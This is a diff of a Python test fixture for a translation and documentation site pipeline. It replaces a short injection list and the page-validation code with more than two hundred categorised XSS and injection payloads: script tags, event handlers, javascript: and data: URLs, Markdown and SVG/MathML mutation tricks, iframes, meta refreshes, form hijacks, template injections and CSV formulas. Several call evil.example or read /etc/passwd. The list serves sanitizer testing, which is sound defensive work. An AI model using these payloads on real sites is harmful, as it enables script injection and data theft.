@@ -1,385 +1,410 @@
-"""What somebody might write into a translation, and what a page may hold at most."""
+"""What somebody might write into a text of the site, by what it tries. Each calls ``alert``,
+asks another host, or breaks out of its element, where a page lets it.
+"""
 
 from __future__ import annotations
 
-import re
-from collections.abc import Iterator
-from html import unescape
-from typing import Any
-
-from site_project import Built, article, project
-
-from pipeline.markdown.mathml import ATTRIBUTES, ELEMENTS
-
-INJECTIONS = (
+SCRIPTS = (
     "<script>alert(1)</script>",
     "<ScRiPt>alert(1)</sCrIpT>",
     "<script src=https://evil.example/x.js></script>",
     "<script\n>alert(1)</script\n>",
+    "<script\x0c>alert(1)</script>",
+    "<script/x>alert(1)</script>",
+    "<script type=module>alert(1)</script>",
+    "<script type=text/javascript>alert(1)//",
+    "<script>alert(1)",
     "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<<script>alert(1)//<</script>",
     "</script><script>alert(1)</script>",
+    "<script>/*</script><script>*/alert(1)</script>",
+    "<script><!--\nalert(1)//--></script>",
+    "<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
+    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
+    "<script>import('https://evil.example/x.mjs')</script>",
+    "<script nonce=x integrity='' crossorigin>alert(1)</script>",
+    "<script type=importmap>{}</script><script type=speculationrules>{}</script>",
+)
+
+HANDLERS = (
     "<img src=x onerror=alert(1)>",
     '<img src="x" onerror="alert(1)" alt="&quot;">',
     "<img/src=x/onerror=alert(1)>",
-    "<IMG SRC=javascript:alert(1)>",
-    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
+    "<img src=x:x onerror=alert(1)>",
+    "<img src onerror=alert`1`>",
+    '<img src="x`" `onerror=alert(1)>',
+    '<img """><script>alert(1)</script>">',
+    "<img src=x onerror\x0b=alert(1)>",
+    "<img src=x onerror\n=\nalert(1)>",
+    "<img src=x OnErRoR=&#97;lert(1)>",
+    "<img src=x srcset='x 1x' onload=alert(1) onerror=alert(1)>",
+    "<image src=x onerror=alert(1)>",
     "<b onclick=alert(1)>x</b>",
     '<b onmouseover="alert(1)">x</b>',
+    "<b/onmouseover=alert(1)>x</b>",
+    "<b\x0conmouseover=alert(1)>x</b>",
     "<p onpointerenter=alert(1) autofocus tabindex=0 onfocus=alert(1)>x</p>",
+    "<a href=# onclick=alert(1)>x</a>",
+    "<a name=x onfocus=alert(1) tabindex=1>x</a>",
+    "<details open ontoggle=alert(1)><summary>x</summary></details>",
+    "<details ontoggle=alert(1) open>x</details>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<body onload=alert(1)>",
+    "<body onpageshow=alert(1) onhashchange=alert(1)>",
+    "<video src=x onerror=alert(1)></video>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1) autoplay></audio>",
+    "<audio autoplay src=https://evil.example/x.mp3></audio>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)><option>x</select>",
+    "<textarea autofocus onfocus=alert(1)></textarea>",
+    "<div contenteditable onbeforeinput=alert(1) oninput=alert(1)>x</div>",
+    "<div popover id=x onbeforetoggle=alert(1)>x</div><button popovertarget=x>y</button>",
+    "<p onanimationstart=alert(1) style=animation-name:spin>x</p>",
+    "<p ontransitionend=alert(1) class=theme>x</p>",
+    "<div oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>x</div>",
+    "<span onscrollend=alert(1) onwheel=alert(1) oncopy=alert(1)>x</span>",
+    "<td onmouseenter=alert(1)>x</td>",
+    "<x onclick=alert(1) tabindex=0>x</x>",
+    "<dialog open oncancel=alert(1) onclose=alert(1)>x</dialog>",
+)
+
+ADDRESSES = (
     "<a href=javascript:alert(1)>x</a>",
+    '<a href="JaVaScRiPt:alert(1)">x</a>',
     '<a href="java\tscript:alert(1)">x</a>',
     '<a href="java&#10;script:alert(1)">x</a>',
+    '<a href="java&Tab;script&colon;alert(1)">x</a>',
+    '<a href="java&NewLine;script:alert(1)">x</a>',
     '<a href=" &#14; javascript:alert(1)">x</a>',
-    '<a href="JaVaScRiPt:alert(1)">x</a>',
+    '<a href="&#1;javascript:alert(1)">x</a>',
+    '<a href="\x1fjavascript:alert(1)">x</a>',
     '<a href="javascript&colon;alert(1)">x</a>',
+    '<a href="javascript&#58alert(1)">x</a>',
+    '<a href="javascript&#0000058;alert(1)">x</a>',
     '<a href="jav&#x0A;ascript&#x3A;alert(1)">x</a>',
+    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
+    '<a href="&amp;#106;avascript:alert(1)">x</a>',
+    '<a href="javascript://example.com/%0aalert(1)">x</a>',
+    "<a href='javascript:\"<img src=x onerror=alert(1)>\"'>x</a>",
+    "<a href=x href=javascript:alert(1)>x</a>",
+    '<a\nhref\n=\n"javascript:alert(1)"\n>x</a>',
+    "<a href=`javascript:alert(1)`>x</a>",
     '<a href="vbscript:msgbox(1)">x</a>',
+    '<a href="livescript:alert(1)">x</a>',
     '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+    '<a href="blob:https://evil.example/1">x</a>',
+    '<a href="view-source:javascript:alert(1)">x</a>',
     '<a href="file:///etc/passwd">x</a>',
+    '<a href="filesystem:http://evil.example/x">x</a>',
+    "<a href=x ping=https://evil.example target=_top download=x rel=opener>x</a>",
+    '<a href="//evil.example/x" target=_blank>x</a>',
+    "<map name=x><area href=javascript:alert(1) shape=default></map><img usemap=#x src=x>",
+    "<IMG SRC=javascript:alert(1)>",
+    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
+    '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\'>',
+    "<blockquote cite=javascript:alert(1)>x</blockquote>",
+    "<table background=javascript:alert(1)><tr><td background=//evil.example/x>x</table>",
+)
+
+MARKDOWN = (
     "[x](javascript:alert(1))",
     "[x](JAVASCRIPT:alert(1))",
     "[x](java&#115;cript:alert(1))",
     "[x](javascript&#58;alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](&#x6A;avascript:alert(1))",
     "[x](<java\tscript:alert(1)>)",
-    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[x](vbscript:alert(1))",
+    "[x](< javascript:alert(1)>)",
+    "[x](javascript\\:alert(1))",
+    "[x](java\\script:alert(1))",
     "[x](\u200bjavascript:alert(1))",
+    "[x](\u00a0javascript:alert(1))",
+    "[x](\u3000javascript:alert(1))",
+    "[x](java\u00adscript:alert(1))",
     "[x](\x01javascript:alert(1))",
+    "[x](\x1bjavascript:alert(1))",
+    "[x](javascript://%0aalert(1))",
+    "[x](javascript:alert%281%29 'a title')",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](DATA:text/html,<script>alert(1)</script>)",
+    "[x](vbscript:alert(1))",
+    "[x](file:///etc/passwd)",
+    "[x](blob:null/1)",
+    "[x](ms-word:ofe|u|https://evil.example/x)",
+    "[x](x.md 'a\" onclick=\"alert(1)')",
+    '[x](x.md "a\\" onmouseover=\\"alert(1)")',
+    "[x](x.md (a' onfocus='alert(1)))",
+    '[x](x"onmouseover="alert(1).md)',
+    '[x](#"onmouseover=alert(1))',
+    '[x](<x"><script>alert(1)</script>>)',
+    "[<script>alert(1)</script>](x.md)",
+    "[a](b)[c](javascript:alert(1)) ![d][e]",
+    "[![x](javascript:alert(1))](javascript:alert(1))",
     "![x](javascript:alert(1))",
     "![x](data:image/svg+xml,<svg onload=alert(1)>)",
+    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
     "![x](https://evil.example/pixel.png)",
-    "<javascript:alert(1)>",
-    "[x]: javascript:alert(1)",
-    "[x](x.md 'a\" onclick=\"alert(1)')",
+    "![x](//evil.example/pixel.png)",
     '![a" onerror="alert(1)](x.png)',
+    "![a](x.png 'a\" onerror=\"alert(1)')",
+    '![a](x"onerror="alert(1).png)',
+    "<javascript:alert(1)>",
+    "<data:text/html,alert(1)>",
+    "<vbscript:alert(1)>",
+    "[x]: javascript:alert(1)",
+    "[x]: javascript:alert(1)\n\n[x]",
+    "[x]: <x> 'a\" onclick=\"alert(1)'",
+)
+
+FOREIGN = (
     "<svg onload=alert(1)>",
+    "<svg/onload=alert(1)//",
     "<svg><script>alert(1)</script></svg>",
+    "<svg><script href=data:,alert(1) /></svg>",
+    "<svg><script>&#97;lert(1)</script></svg>",
     "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
+    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
+    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
+    "<svg><image href=https://evil.example/x onerror=alert(1)></svg>",
+    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
+    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
+    "<svg><style>@import'https://evil.example/x.css'</style></svg>",
+    "<svg><title><script>alert(1)</script></title></svg>",
+    "<svg xmlns:x=http://www.w3.org/1999/xhtml><x:script>alert(1)</x:script></svg>",
     "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
+    "<math href=javascript:alert(1)>x</math>",
+    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
+    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
+    "<math><mtext><script>alert(1)</script></mtext></math>",
+    "<animate onbegin=alert(1)><set onbegin=alert(1)>",
+)
+
+EMBEDDED = (
     "<iframe src=https://evil.example></iframe>",
+    "<iframe src=javascript:alert(1)></iframe>",
     "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
+    "<iframe src='data:text/html,<script>parent.alert(1)</script>'></iframe>",
+    "<iframe onload=alert(1)></iframe>",
+    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
     "<object data=https://evil.example/x.swf></object>",
+    "<object data=javascript:alert(1)></object>",
+    "<object data='data:text/html,<script>alert(1)</script>' type=text/html></object>",
     "<embed src=https://evil.example/x.swf>",
-    "<video src=x onerror=alert(1)></video>",
-    "<audio autoplay src=https://evil.example/x.mp3></audio>",
+    "<embed src=javascript:alert(1)>",
+    "<applet code=x codebase=https://evil.example></applet>",
+    "<portal src=https://evil.example></portal>",
+    "<fencedframe></fencedframe><webview src=javascript:alert(1)></webview>",
     "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<link rel=preload as=script href=https://evil.example/x.js onload=alert(1)>",
+    "<link rel=dns-prefetch href=//evil.example><link rel=prefetch href=//evil.example/x>",
+    "<link rel=import href='data:text/html,<script>alert(1)</script>'>",
+    "<input type=image src=https://evil.example/x onerror=alert(1)>",
+    "<track src=https://evil.example/x.vtt><source src=https://evil.example/x>",
+    "<bgsound src=https://evil.example/x><keygen autofocus onfocus=alert(1)>",
+)
+
+STYLES = (
     "<style>*{background:url(https://evil.example)}</style>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<style>a{x:expression(alert(1))}</style>",
+    "<style/><img src=x onerror=alert(1)></style>",
     "<b style='background:url(https://evil.example)'>x</b>",
+    "<b style=\"background:url('javascript:alert(1)')\">x</b>",
+    "<b style='x:expression(alert(1))'>x</b>",
+    "<b style='-moz-binding:url(//evil.example/x#y);behavior:url(//evil.example)'>x</b>",
+    "<b style='\\62 ackground:url(//evil.example)'>x</b>",
     "<div style=position:fixed;inset:0>x</div>",
+    "<div style='display:none'><div style=height:9999px>x</div></div>",
+    "<table width=99999 style=position:absolute><tr><td>x</table>",
+    "<font color=red face='x;y:z' size=99>x</font>",
+)
+
+DOCUMENTS = (
     "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>",
+    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
+    "<meta http-equiv=set-cookie content=x=y>",
+    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "<meta name=referrer content=unsafe-url>",
     "<base href=https://evil.example/>",
+    "<base target=_top href=javascript:/>",
     "<form action=https://evil.example><input name=a><button>x</button></form>",
+    "<form action=javascript:alert(1)><input type=submit></form>",
+    "<form><button formaction=javascript:alert(1)>x</button></form>",
     "<button formaction=javascript:alert(1)>x</button>",
-    "<details open ontoggle=alert(1)><summary>x</summary></details>",
-    "<marquee onstart=alert(1)>x</marquee>",
-    "<template><script>alert(1)</script></template>",
+    "<input form=x formaction=https://evil.example type=submit>",
+    "<isindex action=javascript:alert(1) type=image>",
+    "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
+    "<form name=body><input name=firstChild><img name=currentScript></form>",
+    "<a id=ts-main>x</a><a name=ts-main>x</a>",
+    "<a id=twinspanSearch>x</a><a id=twinspanContents name=x href=javascript:alert(1)>x</a>",
+    "<b id=ts-main class='skip languages alert-title' lang='x' dir=rtl>x</b>",
+    "<p data-s=1 data-state=x data-nothing>x</p>",
+    "<div data-nav=//evil.example/x.js class=side><ul><li class=cut></ul></div>",
+    "<div class=picker data-key=x data-choices='<img src=x onerror=alert(1)>' data-label=x></div>",
+    "<div class=tabs><div class=tab data-tab='<script>alert(1)</script>'>x</div></div>",
+    "<p class=see><a href=javascript:alert(1)>x</a></p>",
+)
+
+MUTATIONS = (
     "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
+    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
+    "<noframes><b title='</noframes><img src=x onerror=alert(1)>'></noframes>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
+    "<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)>",
+    "<math><mi><table><mglyph><svg><mtext><style><a title='</style><img onerror=alert(1) src>'>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
+    "<svg><p><style><g title='</style><img src=x onerror=alert(1)>'></style></svg>",
+    "<svg><desc><noscript><style></noscript><a title='</style><img src=x onerror=alert(1)>'>",
+    "<svg><![CDATA[<a title='></svg><img src=x onerror=alert(1)>'>]]></svg>",
+    "<math><annotation-xml encoding=text/html><style><b id='</style><img src onerror=alert(1)>'>",
+    "<select><noembed></select><script>alert(1)</script></noembed>",
+    "<select><style><!--</style><b rel='--><img src=x onerror=alert(1)>'></select>",
+    "<option><style></option></select><b><img src=x onerror=alert(1)></style></option>",
+    "<template><script>alert(1)</script></template>",
+    "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
+    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
+    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
+    "<xmp><script>alert(1)</script></xmp>",
+    "<xmp><p title='</xmp><svg/onload=alert(1)>'></xmp>",
+    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
+    "<textarea><plaintext>",
+    "<plaintext>",
     "<!--<img src='--><img src=x onerror=alert(1)>'>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<!--!><img src=x onerror=alert(1)>--!>",
+    "<!-- --!><img src=x onerror=alert(1)>",
+    "<!x><img src=x onerror=alert(1)>",
+    "<!DOCTYPE html [<!ENTITY x '<img src=x onerror=alert(1)>'>]>&x;",
     "<![CDATA[<img src=x onerror=alert(1)>]]>",
     "<?php alert(1) ?><img src=x onerror=alert(1)>",
+    "<?xml-stylesheet href='javascript:alert(1)'?>",
+    "</ title='><img src=x onerror=alert(1)>'>",
+    "<a title='<b>' <img src=x onerror=alert(1)>",
+    "<table><a href=x><tr><td><a href=javascript:alert(1)>x</table>",
+    "<b title='\x00'><img\x00 src=x onerror=alert(1)></b>",
+    "<scr\x00ipt>alert(1)</scr\x00ipt>",
+)
+
+BREAKOUTS = (
+    "\"'><script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "'><img src=x onerror=alert(1)>",
+    "--><img src=x onerror=alert(1)>",
+    "]]><img src=x onerror=alert(1)>",
+    "</title><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "</textarea></template></noscript></select><script>alert(1)</script>",
     "<title></title></head><body onload=alert(1)>",
     "</main></body></html><h1>x",
     "</span></span></p></article></main><script>alert(1)</script>",
     "</div></div></div></div>",
     "<div><div><table><tr><td><ul><li>",
     "<b><i><a href='x'><b>",
-    "<textarea><plaintext>",
-    "<xmp><script>alert(1)</script></xmp>",
-    "<a id=ts-main>x</a><a name=ts-main>x</a>",
-    "<b id=ts-main class='skip languages alert-title' lang='x' dir=rtl>x</b>",
-    "<p data-s=1 data-state=x data-nothing>x</p>",
-    "{{ 7*7 }} {% for x in y %} ${7*7} #{7*7}",
-    "{{ page.__class__.__mro__ }}{% include 'layout.html' %}",
-    "{{config}}",
-    "%(x)s {0} {language}",
-    "\"'><script>alert(1)</script>",
-    '" onfocus="alert(1)" autofocus="',
-    "' onfocus='alert(1)",
-    "`<script>alert(1)</script>`",
+    "</summary></details></li></ul></nav>",
+    "</td></tr></table></div><h1>x</h1>",
+    "`<script>alert(1)</script>",
     "```\n<script>alert(1)</script>",
-    "[!INCLUDE [x](../../../../etc/passwd)]",
+    "\n\n<script>alert(1)</script>\n\n",
+    "\n\n# x\n\n- <img src=x onerror=alert(1)>\n",
+    "\n---\ntitle: <script>alert(1)</script>\n---\n",
+)
+
+DIRECTIVES = (
     "[!VIDEO javascript:alert(1)]",
+    "[!VIDEO data:text/html,<script>alert(1)</script>]",
     "[!VIDEO https://evil.example/embed]",
+    '[!VIDEO "><script>alert(1)</script>]',
+    "[!INCLUDE [x](../../../../etc/passwd)]",
+    "[!INCLUDE [<script>alert(1)</script>](x.md)]",
+    "[!code-csharp[x](../../../../etc/passwd)]",
+    "[!div class='x' onclick='alert(1)'] <script>alert(1)</script>",
     ':::image source="javascript:alert(1)" alt-text="x" lightbox="javascript:alert(1)":::',
+    ':::image source="x.png" alt-text="a&quot; onerror=&quot;alert(1)" border="x":::',
+    ":::image source='x' onerror='alert(1)' alt-text='<script>alert(1)</script>':::",
+    ':::image type="icon" source="https://evil.example/x.svg":::',
+    ":::video source=javascript:alert(1):::",
     ':::code source="/etc/passwd":::',
+    '::: zone pivot="<img src=x onerror=alert(1)>" <script>alert(1)</script>',
     "<xref:javascript:alert(1)>",
     "[x](xref:a?text=<script>alert(1)</script>)",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&amp;lt;script&amp;gt;",
-    "\ufdd0\ue000\ue001\ue002 \u202e \u2028 x",
-    "<b" + " x" * 300 + ">",
-    "<" * 300 + "b>",
-    "**" * 300 + "x",
-    "[" * 300 + "x" + "](javascript:alert(1))" * 50,
+    "@javascript:alert(1) <xref:a?displayProperty=<script>alert(1)</script>>",
+)
+
+FORMULAS = (
     r"$\text{<img src=x onerror=alert(1)>}$",
     r"$\href{javascript:alert(1)}{x}$ $$\style{color:red}{x}$$",
     r"$\mathrm{</math><script>alert(1)</script>}$",
     r"$\unicode{60}script\unicode{62}$ $a\class{x\" onload=\"alert(1)}{b}$",
+    r"$\url{javascript:alert(1)}$ $\includegraphics{https://evil.example/x.png}$",
+    r"$\require{html}\cssId{ts-main}{x}$ $\def\x{\x\x}\x$",
 )
-"""At least sixty ways to do what a translation must not."""
 
-THEME_TAGS = frozenset(
-    [
-        "html",
-        "head",
-        "body",
-        "meta",
-        "title",
-        "link",
-        "script",
-        "header",
-        "nav",
-        "main",
-        "article",
-        "footer",
-        "svg",
-        "circle",
-        "path",
-        "summary",
-        "details",
-        "small",
-    ]
+TEXTS = (
+    "{{ 7*7 }} {% for x in y %} ${7*7} #{7*7}",
+    "{{ page.__class__.__mro__ }}{% include 'layout.html' %}",
+    "{{config}}",
+    "{% raw %}{{ 7*7 }}{% endraw %} {# x #}",
+    "<%= 7*7 %> <% alert(1) %> ${{7*7}} #{alert(1)} *{7*7} @(7*7)",
+    "{{constructor.constructor('alert(1)')()}} [[${7*7}]] {{{7*7}}}",
+    "%(x)s {0} {language} {percent} {{n}} %s $& $1 \\1",
+    '" onfocus="alert(1)" autofocus="',
+    "' onfocus='alert(1)",
+    "` onfocus=`alert(1)",
+    " onfocus=alert(1) ",
+    "javascript:alert(1)",
+    "`<script>alert(1)</script>`",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "&amp;lt;script&amp;gt;",
+    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
+    "\u02bascript\u203aalert(1)\u2039",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "=cmd|'/c calc'!A0 @SUM(1) -1+1",
+    "\\<script>alert(1)\\</script>",
+    "\ufdd0\ue000\ue001\ue002 \u202e \u2028 x",
+    "\u202etpircs\u202c \u2066 \u2069\u2069 \u200f\u200e x",
+    "\x85\x0b \ufeff \ufffd x",
+    "e\u0301" + "\u0300" * 200 + " x",
+    "**" * 300 + "x",
+    "\\" * 301 + "x",
 )
-TEXT_TAGS = frozenset(
-    [
-        *("math", *ELEMENTS),
-        "a",
-        "abbr",
-        "aside",
-        "b",
-        "bdi",
-        "bdo",
-        "big",
-        "blockquote",
-        "br",
-        "caption",
-        "center",
-        "cite",
-        "code",
-        "col",
-        "colgroup",
-        "dd",
-        "del",
-        "details",
-        "dfn",
-        "div",
-        "dl",
-        "dt",
-        "em",
-        "figcaption",
-        "figure",
-        "h1",
-        "h2",
-        "h3",
-        "h4",
-        "h5",
-        "h6",
-        "hr",
-        "i",
-        "img",
-        "ins",
-        "kbd",
-        "li",
-        "mark",
-        "ol",
-        "p",
-        "pre",
-        "q",
-        "rp",
-        "rt",
-        "ruby",
-        "s",
-        "samp",
-        "section",
-        "small",
-        "span",
-        "strike",
-        "strong",
-        "sub",
-        "summary",
-        "sup",
-        "table",
-        "tbody",
-        "td",
-        "tfoot",
-        "th",
-        "thead",
-        "time",
-        "tr",
-        "tt",
-        "u",
-        "ul",
-        "var",
-        "wbr",
-    ]
+"""What is text wherever it stands: shown as it is, or as the Markdown that it is, and nothing
+to report.
+"""
+
+ENDLESS = (
+    "<" * 300 + "b>",
+    "<b" + " x" * 300 + ">",
+    "<a href='" + "x" * 5000 + "' onclick=alert(1)>x</a>",
+    "[" * 300 + "x" + "](javascript:alert(1))" * 50,
+    "<b>" * 300 + "<script>alert(1)</script>",
+    "<!--" * 300 + "<script>alert(1)</script>",
+    "> " * 100 + "<script>alert(1)</script>",
 )
-TEXT_ATTRIBUTES = frozenset(
-    [
-        *("alttext", "display", *ATTRIBUTES),
-        "class",
-        "dir",
-        "lang",
-        "title",
-        "translate",
-        "id",
-        "href",
-        "hreflang",
-        "src",
-        "alt",
-        "loading",
-        "role",
-        "aria-label",
-        "align",
-        "valign",
-        "width",
-        "border",
-        "abbr",
-        "colspan",
-        "headers",
-        "rowspan",
-        "scope",
-        "span",
-        "start",
-        "type",
-        "value",
-        "reversed",
-        "datetime",
-        "open",
-        "cellpadding",
-        "cellspacing",
-        "data-s",
-        "data-d",
-        "data-f",
-        "data-state",
-        "data-moniker",
-        "data-pivot",
-        "data-target",
-        "data-uid",
-        "data-tab",
-        "data-condition",
-        "data-language",
-        *("data-show", "data-key", "data-label", "data-every", "data-choices"),
-        *("data-contents", "data-similar", "data-lead"),
-    ]
+
+ACTIVE = (
+    *SCRIPTS,
+    *HANDLERS,
+    *ADDRESSES,
+    *MARKDOWN,
+    *FOREIGN,
+    *EMBEDDED,
+    *STYLES,
+    *DOCUMENTS,
+    *MUTATIONS,
+    *BREAKOUTS,
+    *DIRECTIVES,
+    *FORMULAS,
+    *ENDLESS,
 )
-_SEEN_THROUGH = re.compile(r"[\x00-\x20\x7f-\xa0\xad\u200b-\u200f\u2028-\u202f\u2060\ufeff]")
-_RELATIVE = re.compile(r"[^:/?#]*([/?#]|$)")
-
-
-def is_safe_url(url: str) -> bool:
-    seen = _SEEN_THROUGH.sub("", unescape(url)).lower()
-    if seen.startswith("//"):
-        return False
-    return bool(_RELATIVE.match(seen)) or seen.startswith(("https:", "http:", "mailto:", "tel:"))
-
-
-def faults(page: Any) -> Iterator[str]:
-    """Everything on a page that no content may bring in. ``page`` is a tree."""
-    for element in page.iter():
-        if not isinstance(element.tag, str):
-            yield f"a comment or instruction: {element}"
-            continue
-        in_text = any(parent.tag == "article" for parent in element.iterancestors())
-        if element.tag not in (TEXT_TAGS if in_text else TEXT_TAGS | THEME_TAGS):
-            yield f"<{element.tag}>"
-        for name in element.keys():  # noqa: SIM118
-            if name.startswith("on") or name in ("style", "srcdoc", "formaction", "action"):
-                yield f"<{element.tag} {name}>"
-            if in_text and name not in TEXT_ATTRIBUTES:
-                yield f"<{element.tag} {name}> in the text"
-        yield from _bad_urls(element)
-        if element.tag == "script" and (element.text or not element.get("src")):
-            yield "an inline script"
-
-
-def _bad_urls(element: Any) -> Iterator[str]:
-    told = element.tag == "link" and element.get("rel") in ("canonical", "alternate")
-    for name in ("href", "src", "data"):
-        value = element.get(name, "")
-        if not is_safe_url(value):
-            yield f"<{element.tag} {name}={value!r}>"
-        if element.tag in ("script", "link", "img") and "://" in value and not told:
-            yield f"<{element.tag} {name}={value!r}> asks another host"
-
-
-def frame(page: Any) -> list[str]:
-    """The page's own structure: what must stand, whatever the content is."""
-    scripts = 2 + len(page.xpath("//main/p[@class='see']"))
-    wanted = {
-        "//html/body/a[@class='skip']": 1,
-        "//body/header[@class='top']": 1,
-        "//body/div[@class='frame']/main[@id='ts-main']": 1,
-        "//main//article": 1,
-        "//*[@id='ts-main']": 1,
-        "//body/div[@class='frame']/footer": 1,
-        "//head/script": scripts,
-        "//script": scripts,
-        "//head/meta[@http-equiv]": 1,
-    }
-    return [path for path, count in wanted.items() if len(page.xpath(path)) != count]
-
-
-def one_line(text: str) -> str:
-    return " ".join(text.replace("|", "&#124;").split())
-
-
-def quoted(text: str) -> str:
-    """For a double-quoted YAML text."""
-    kept = "".join(c if c >= " " and not "\ufdd0" <= c <= "\ufdef" else " " for c in text)
-    return kept.replace("\\", "\\\\").replace('"', '\\"')
-
-
-def infected(root: Any) -> Built:
-    """A site in which every text is an injection: T by article, S, titles, alternative texts,
-    tables of contents, YAML pages, headings, cells, link texts.
-    """
-    files: dict[str, str | bytes] = {}
-    toc = []
-    for number, bad in enumerate(INJECTIONS):
-        name = f"p{number:03}"
-        line = one_line(bad).replace("{", "&#123;").replace("}", "&#125;")
-        files[f"de-DE/{name}.md"] = (
-            f'---\ntitle: "{quoted(bad)}"\ndescription: "{quoted(bad)}"\n---\n'
-        ) + article(
-            '# <a name="h"></a>{Kopf|Head}',
-            "{T " + line + "|S}",
-            "{Gut|" + line + "}",
-            "| {Zelle|Cell} |\n| --- |\n| {T " + line + "|C} |",
-            "[{T " + line + "|L}](p000.md)",
-            "![" + line.replace("[", "(").replace("]", ")") + "](gone.png)",
-            '<p title="x">{T ' + line + "|H}</p>",
-            "> [!NOTE]\n> {T " + line + "|N}",
-            '## <a name="last"></a>{Letzter|Last}',
-            "{Danach.|After.}",
-        )
-        # beyond segments: what a source file itself may say
-        files[f"de-DE/raw/{name}.md"] = f"# Kopf\n\n{bad}\n\n## Danach\n\nText.\n"
-        files[f"en-US/plain/{name}.md"] = f"# {line}\n\n- {line}\n\nText {line}.\n"
-        if not any(c < " " and c not in "\n\t" for c in bad):
-            files[f"de-DE/yaml/{name}.yml"] = (
-                f'title: "{quoted(bad)}"\nsummary: "{quoted(bad)}"\n'
-                f'sections:\n- name: "{quoted(bad)}"\n  questions:\n'
-                f'  - question: "{quoted(bad)}"\n    answer: "{quoted(bad)}"\n'
-                f'items:\n- text: "{quoted(bad)}"\n  url: "{quoted(bad)}"\n'
-            )
-            toc.append(f'- name: "{quoted(bad)}"\n  href: {name}.md\n')
-            toc.append(f'- name: "T {quoted(bad)}"\n  href: "{quoted(bad)}"\n')
-    files["de-DE/TOC.yml"] = "".join(toc)
-    built = project(
-        root,
-        files,
-        ["de-DE"],
-        '[site]\nname = "<script>alert(1)</script>{{7*7}}"\nurl = "https://help.example.com"\n'
-        'suggest = "https://git.example.com/{catalog}?s={msgid}&t={msgstr}&q={quoted}"',
-    )
-    import polib
-
-    # and the same by way of the catalogs
-    for number, bad in enumerate(INJECTIONS):
-        file = built.config.catalogs / f"de_DE/p{number:03}.po"
-        catalog = polib.pofile(str(file), wrapwidth=0)
-        for entry in catalog:
-            if entry.msgid in ("After.", "Last", "Head"):
-                entry.msgstr = re.sub(r"[\x00-\x08]", " ", bad)
-        catalog.save()
-    return built.again()
+INJECTIONS = (*ACTIVE, *TEXTS)
+"""More than two hundred ways to do what a text must not."""
